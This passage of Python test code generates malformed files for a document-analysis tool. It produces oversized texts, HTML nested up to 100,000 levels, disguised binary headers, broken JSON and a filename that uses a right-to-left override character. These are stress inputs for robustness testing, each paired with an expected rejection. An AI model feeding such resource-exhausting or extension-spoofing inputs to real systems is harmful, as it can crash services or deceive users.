    c.stream(f"oversized/single-line-{big_text_mb}mb.txt", TOO_LARGE, big)

    def sixty(out: io.BufferedWriter) -> None:
        for _ in range(60):
            out.write(line * 1024)

    c.stream("oversized/sixty-mb.md", TOO_LARGE, sixty)
    c.stream("oversized/sixty-mb.html", TOO_LARGE, sixty)
    c.stream("oversized/sixty-mb.jsonl", TOO_LARGE, sixty)
    # Under the size limit, over the character limit (5,000,000).
    c.write("oversized/six-million-chars.txt", line * 6 * 1024, TOO_LONG)
    c.write("oversized/long-record.jsonl",
            json.dumps({"id": "long", "text": "x" * 5_200_000}) + "\n"
            + json.dumps({"id": "short", "text": account("en", c.next())}) + "\n",
            Expect("stored", TOO_LONG.reason, documents=1))
    c.write("oversized/korean-chars.txt", "가" * 5_100_000, TOO_LONG)
    # Under every size limit (4.8 million characters), but dense with evidence: analysing it
    # takes several seconds on one core, past the deadline the test sets (--doc-timeout).
    dense = ("We worked seven days a week from 6 a.m. until midnight. The boss kept our "
             "passports. The agency charged each of us 3,000 dollars. ")
    c.write("oversized/slow-dense.txt", dense * 37_000, TIMEOUT)


def _deep_html(c: _Corpus) -> None:
    text = account("en", c.next())
    for levels in (300, 5_000, 100_000):
        c.write(f"deep/divs-{levels}.html", "<html><body>" + "<div>" * levels + text
                + "</div>" * levels + "</body></html>", HTML_DEPTH)
    c.write("deep/unclosed-100k.html", "<html><body>" + "<div>" * 100_000 + text, HTML_DEPTH)
    c.write("deep/spans-after-text.html", f"<html><body><p>{text}</p>" + "<span><b>" * 50_000
            + "x" + "</b></span>" * 50_000 + "</body></html>", HTML_DEPTH)
    c.write("deep/tables.html", "<html><body>" + "<table><tr><td>" * 20_000 + text
            + "</td></tr></table>" * 20_000 + "</body></html>", HTML_DEPTH)
    c.write("deep/lists.html", "<html><body>" + "<ul><li>" * 50_000 + text + "</body></html>",
            HTML_DEPTH)
    c.write("deep/in-comments.html", f"<html><body><article><p>{text}</p></article>"
            "<div id=\"comments\">" + "<div class=\"comment\"><p>reply</p>" * 10_000
            + "</div>" * 10_001 + "</body></html>", HTML_DEPTH)
    c.write("deep/inline-formatting.html", "<html><body><p>" + "<em><strong>" * 30_000 + text
            + "</p></body></html>", HTML_DEPTH)
    c.write("deep/head.html", "<html><head>" + "<noscript>" * 10_000 + "</head><body><p>"
            + text + "</p></body></html>", EITHER)


def _binary(c: _Corpus) -> None:
    rng = random.Random(20240601)
    for i in range(8):
        c.write(f"binary/random-{i}.txt", rng.randbytes(4096 * (i + 1)), BINARY)
    c.write("binary/png.txt", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + rng.randbytes(8000), BINARY)
    c.write("binary/jpeg.txt", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + rng.randbytes(8000), BINARY)
    c.write("binary/gzip.txt", zlib.compress(rng.randbytes(8000))[2:] + b"\x1f\x8b\x08\0",
            BINARY)
    c.write("binary/elf.txt", b"\x7fELF\x02\x01\x01\0" + bytes(8) + rng.randbytes(8000), BINARY)
    c.write("binary/sqlite.txt", b"SQLite format 3\0" + rng.randbytes(8000), BINARY)
    c.write("binary/docx-bytes.txt", docx(account("en", c.next())), BINARY)
    c.write("binary/controls.txt", bytes(range(1, 32)) * 300, BINARY)
    c.write("binary/random.md", rng.randbytes(16000), BINARY)
    c.write("binary/random.html", rng.randbytes(16000), BINARY)
    c.write("binary/high-bytes.txt", bytes(rng.randrange(128, 256) for _ in range(8000)),
            EITHER)


def _misc(c: _Corpus) -> None:
    c.write("misc/empty.txt", b"", rejected(r"^empty"))
    c.write("misc/whitespace.md", b" \n\t\r\n ", rejected(r"^empty"))
    c.write("misc/empty.docx", b"", rejected(r"^empty"))
    c.write("misc/blank-lines.jsonl", b"\n\n\n", rejected(r"^empty"))
    c.write("misc/mixed.jsonl", json.dumps({"id": "ok", "text": account("es", c.next())})
            + "\n{not json}\n" + json.dumps({"id": 7}) + "\n"
            + json.dumps({"id": "deep", "text": "x", "nested": [[[[[[[[[[]]]]]]]]]]}) + "\n",
            Expect("stored", r"invalid JSON|missing 'text'", documents=2))
    c.write("misc/deep-json.jsonl", "[" * 100_000 + "]" * 100_000 + "\n",
            rejected(r"JSON|expected a JSON object"))
    c.write("misc/pdf-named-html.html", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 8,
            BINARY)
    c.write("misc/script-only.html", "<html><body><script>" + "var a=1;" * 10_000
            + "</script></body></html>", rejected(r"^no text"))
    c.write("misc/odd name \u202etxt.md \u00e9.txt", account("fr", c.next()), STORED)
    c.write("misc/space and ünïcödé.md", account("de", c.next()), STORED)
    c.write("misc/a-very-long-line-no-stops.txt", ("labour camp passport debt " * 40_000),
            EITHER)
